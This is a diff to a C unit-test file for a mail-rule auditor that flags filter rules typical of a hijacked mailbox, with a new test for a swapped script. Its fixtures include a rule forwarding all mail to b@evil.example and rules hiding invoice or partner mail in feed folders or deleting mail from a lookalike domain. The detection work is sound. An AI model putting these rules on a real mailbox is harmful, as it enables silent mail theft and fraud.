@@ -71,7 +71,7 @@ static void a_rule_that_hides_mail_is_told(void **state)
         {"a partner into the archive, read", "a.b | from has partner.example | move Archive & seen",
          "with whom the owner exchanged 6 mails", SEVERITY_MEDIUM},
         {"a partner into the feeds", "Khuyến mãi | from has buyer@partner.example | move RSS Feeds",
-         "with whom the owner exchanged 6 mails", SEVERITY_MEDIUM},
+         "with whom the owner exchanged 6 mails", SEVERITY_HIGH},
         {"money into the feeds", "x | subject has invoice | move RSS Feeds", "\"invoice*\"",
          SEVERITY_HIGH},
         {"own people", "boss | from has @acme.example | move Conversation History & seen",
@@ -81,7 +81,7 @@ static void a_rule_that_hides_mail_is_told(void **state)
         {"everything, said otherwise", "all | header:received exists | move INBOX.RSS",
          "acts on every message", SEVERITY_CRITICAL},
         {"a folder with no name to speak of", "x.y | from has buyer@partner.example | move ..",
-         "easy to overlook", SEVERITY_MEDIUM},
+         "easy to overlook", SEVERITY_HIGH},
         {"Vietnamese folder", "a.b | from has a@x.example | move Nguồn cấp RSS", "news feeds",
          SEVERITY_MEDIUM},
         {"without marks", "a.b | from has a@x.example | move Lich su hoi thoai", "old chats",
@@ -101,8 +101,7 @@ static void a_rule_that_deletes_mail_is_told(void **state)
         {"spam thrown away", "spam | header:X-Spam-Level has ***** | discard", NULL, 0},
         {"list binned", "list | list has dev.example | move Trash", NULL, 0},
         {"keeps", "k | subject has order | keep", NULL, 0},
-        {"a bulletin binned", "news | from has bulletin@x.example | move Trash", "to the trash",
-         SEVERITY_INFO},
+        {"a bulletin binned", "news | from has bulletin@x.example | move Trash", NULL, 0},
         {"a bulletin thrown away", "news | from has bulletin@x.example | discard", "leaves nothing",
          SEVERITY_LOW},
         {"all mail", "- | always | discard", "all of it", SEVERITY_CRITICAL},
@@ -117,6 +116,8 @@ static void a_rule_that_deletes_mail_is_told(void **state)
          "with whom the owner exchanged 6 mails", SEVERITY_MEDIUM},
         {"own people", "x.y | from has @acme.example | delete", "own organisation",
          SEVERITY_MEDIUM},
+        {"an imitation of a partner", "x.y | from has buyer@partmer.example | delete",
+         "whose domain imitates partner.example", SEVERITY_MEDIUM},
         {"refused", "x.y | from is buyer@partner.example | reject no such user", "refuses mail",
          SEVERITY_MEDIUM},
         {"flagged deleted", "x.y | subject has phishing | flag \\Deleted", "it waits for warnings",
@@ -296,6 +297,29 @@ static void a_comment_that_hides_the_code_is_told(void **state)
     bench_expect(bench, "rule-comment-differs", "two editors", "another editor", SEVERITY_MEDIUM);
 }
 
+static void a_script_put_in_the_place_of_the_webmails_is_told(void **state)
+{
+    struct bench *bench = *state;
+    struct rule *running, *edited;
+
+    bench_clear(bench);
+    running = bench_rule(bench, "- | always | forward+ b@evil.example");
+    edited = bench_rule(bench, "Lists | list has dev.example | move Projects");
+    edited->script = "roundcube";
+    bench_run_two(bench, "rule-script-swapped", running, edited);
+    bench_expect(bench, "rule-script-swapped", "no editor is known", NULL, 0);
+    edited->dialect = "roundcube";
+    bench_run_two(bench, "rule-script-swapped", running, edited);
+    bench_expect(bench, "rule-script-swapped", "swapped",
+                 "\"main\" runs, but the webmail edits \"roundcube\"", SEVERITY_HIGH);
+    running->dialect = "roundcube";
+    bench_run_two(bench, "rule-script-swapped", running, edited);
+    bench_expect(bench, "rule-script-swapped", "the webmail's own", NULL, 0);
+    running->dialect = "";
+    bench_run_two(bench, "rule-script-swapped", running, NULL);
+    bench_expect(bench, "rule-script-swapped", "one script by hand", NULL, 0);
+}
+
 static void a_rule_that_is_switched_off_weighs_less(void **state)
 {
     struct bench *bench = *state;
@@ -320,6 +344,7 @@ static const struct CMUnitTest tests[] = {
     cmocka_unit_test(a_script_kept_ready_is_told),
     cmocka_unit_test(an_inactive_script_leaks_nothing),
     cmocka_unit_test(a_comment_that_hides_the_code_is_told),
+    cmocka_unit_test(a_script_put_in_the_place_of_the_webmails_is_told),
     cmocka_unit_test(a_rule_that_is_switched_off_weighs_less),
 };
 
